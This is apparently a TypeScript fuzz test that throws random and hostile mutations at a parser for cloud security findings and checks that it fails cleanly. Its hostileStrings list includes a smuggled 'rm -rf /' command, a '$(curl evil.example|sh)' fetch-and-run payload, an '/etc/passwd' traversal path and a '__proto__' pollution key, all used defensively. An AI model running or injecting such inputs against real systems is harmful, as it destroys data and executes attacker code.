import fc from 'fast-check';
import { allCategories, allRuntimes, allShapes, inShape, notificationFor } from '../../test/fixtures/findings';
import { FindingError } from './errors';
import type { Finding } from './model';
import { nameRules } from './names';
import { parseFinding } from './parse';

/**
 * Random mutations of valid findings never crash the parser: each one either parses into a
 * finding whose names all pass the naming rules, or fails with a FindingError naming a field.
 */

const seeds = allCategories.flatMap((category) =>
  allRuntimes.flatMap((runtime) => allShapes.map((shape) => inShape(notificationFor(category, runtime), shape))),
);

const hostileStrings = [
  '; rm -rf / #',
  '$(curl evil.example|sh)',
  '../../../../etc/passwd',
  '\u0000',
  '\u001b[31m',
  'a'.repeat(70_000),
  '9'.repeat(30),
  '__proto__',
  '',
  ' ',
  '-1',
  'NaN',
  '1e309',
  '2026-13-45T99:99:99Z',
  '//container.googleapis.com/projects/p/locations/l/clusters/c',
];

type Slot = { parent: Record<string, unknown> | unknown[]; key: string | number };

function slots(value: unknown, found: Slot[] = []): Slot[] {
  if (Array.isArray(value)) {
    value.forEach((item, index) => {
      found.push({ parent: value, key: index });
      slots(item, found);
    });
  } else if (typeof value === 'object' && value !== null) {
    for (const [key, item] of Object.entries(value)) {
      found.push({ parent: value as Record<string, unknown>, key });
      slots(item, found);
    }
  }
  return found;
}

const mutationArb = fc.record({
  seed: fc.nat(seeds.length - 1),
  target: fc.nat(),
  kind: fc.constantFrom('replace', 'hostile', 'delete', 'proto', 'snake-twin', 'wrap'),
  value: fc.jsonValue({ maxDepth: 3 }),
  hostile: fc.constantFrom(...hostileStrings),
});

type Mutation = typeof mutationArb extends fc.Arbitrary<infer T> ? T : never;

function mutate({ seed, target, kind, value, hostile }: Mutation): unknown {
  return applyMutation(structuredClone(seeds[seed]!), target, kind, value, hostile);
}

function applyMutation(root: Record<string, unknown>, target: number, kind: string, value: unknown, hostile: string): unknown {
  const all = slots(root);
  const slot = all[target % all.length]!;
  const container = slot.parent as Record<string | number, unknown>;
  switch (kind) {
    case 'replace':
      container[slot.key] = value;
      break;
    case 'hostile':
      container[slot.key] = hostile;
      break;
    case 'delete':
      if (Array.isArray(slot.parent)) slot.parent.splice(slot.key as number, 1);
      else delete container[slot.key];
      break;
    case 'proto':
      if (!Array.isArray(slot.parent)) Object.defineProperty(slot.parent, '__proto__', { value, enumerable: true, writable: true, configurable: true });
      break;
    case 'snake-twin':
      if (typeof slot.key === 'string' && !Array.isArray(slot.parent)) {
        container[slot.key.replace(/[A-Z]/g, (letter) => `_${letter.toLowerCase()}`)] = value;
      }
      break;
    case 'wrap':
      container[slot.key] = [container[slot.key]];
      break;
  }
  return root;
}

function checkParsed(finding: Finding): void {
  const subject = finding.subject;
  expect(nameRules.projectId.test(subject.projectId)).toBe(true);
  if (subject.runtime === 'gke') {
    expect(nameRules.kubernetesLabel.test(subject.namespace)).toBe(true);
    expect(nameRules.kubernetesSubdomain.test(subject.pod)).toBe(true);
    expect(nameRules.kubernetesLabel.test(subject.container)).toBe(true);
    expect(nameRules.gkeCluster.test(subject.cluster)).toBe(true);
    if (subject.node) expect(nameRules.kubernetesSubdomain.test(subject.node)).toBe(true);
  } else {
    expect(nameRules.location.test(subject.region)).toBe(true);
    if (subject.service) expect(nameRules.cloudRunService.test(subject.service)).toBe(true);
  }
  if (subject.imageUri) expect(nameRules.imageUri.test(subject.imageUri)).toBe(true);
  expect(JSON.stringify(finding).length).toBeLessThan(1024 * 1024);
}

function outcome(text: string): void {
  try {
    checkParsed(parseFinding(text).finding);
  } catch (error) {
    if (!(error instanceof FindingError)) throw error;
    expect(typeof error.path).toBe('string');
    expect(error.message.startsWith('invalid finding')).toBe(true);
  }
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
}

test('structural mutations of valid findings parse or fail with a field path', () => {
  fc.assert(
    fc.property(mutationArb, (mutation) => outcome(JSON.stringify(mutate(mutation)))),
    { numRuns: 3000 },
  );
});

test('double mutations reach combinations single ones do not', () => {
  fc.assert(
    fc.property(mutationArb, mutationArb, (first, second) => {
      const once = mutate(first) as Record<string, unknown>;
      outcome(JSON.stringify(applyMutation(once, second.target, second.kind, second.value, second.hostile)));
    }),
    { numRuns: 1500 },
  );
});

test('byte-level corruption of the JSON text parses or fails cleanly', () => {
  const texts = seeds.map((seed) => JSON.stringify(seed));
  fc.assert(
    fc.property(fc.nat(texts.length - 1), fc.nat(), fc.string({ maxLength: 4 }), (index, position, insert) => {
      const text = texts[index]!;
      const at = position % text.length;
      outcome(text.slice(0, at) + insert + text.slice(at + 1));
    }),
    { numRuns: 2000 },
  );
});
